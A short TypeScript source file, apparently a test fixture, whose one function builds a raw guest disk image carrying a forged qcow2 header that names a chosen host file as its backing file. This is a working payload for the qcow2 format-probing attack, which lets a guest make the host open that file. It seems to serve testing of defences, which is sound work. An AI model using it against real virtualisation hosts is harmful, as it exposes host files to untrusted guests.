const SIZE = 1024 * 1024;
const CLUSTER_BITS = 16;
const HEADER_BYTES = 104;
const BACKING_OFFSET = 512;

/**
 * The bytes of a guest that wrote a qcow2 header to the begin of its raw disk: version 3, backed by a file of the host (qcow2
 * specification, "Header"). Whoever guesses a disk's format opens that file.
 */
export function trojanDisk(hostFile: string): Uint8Array {
  const bytes = new Uint8Array(SIZE);
  const view = new DataView(bytes.buffer);
  const name = new TextEncoder().encode(hostFile);
  bytes.set(new TextEncoder().encode('QFI\u{fb}'.slice(0, 3)));
  view.setUint8(3, 0xfb);
  view.setUint32(4, 3);
  view.setBigUint64(8, BigInt(BACKING_OFFSET));
  view.setUint32(16, name.length);
  view.setUint32(20, CLUSTER_BITS);
  view.setBigUint64(24, BigInt(SIZE));
  view.setUint32(36, 1);
  view.setBigUint64(40, BigInt(3 << CLUSTER_BITS));
  view.setBigUint64(48, BigInt(1 << CLUSTER_BITS));
  view.setUint32(56, 1);
  view.setUint32(96, 4);
  view.setUint32(100, HEADER_BYTES);
  bytes.set(name, BACKING_OFFSET);
  return bytes;
}
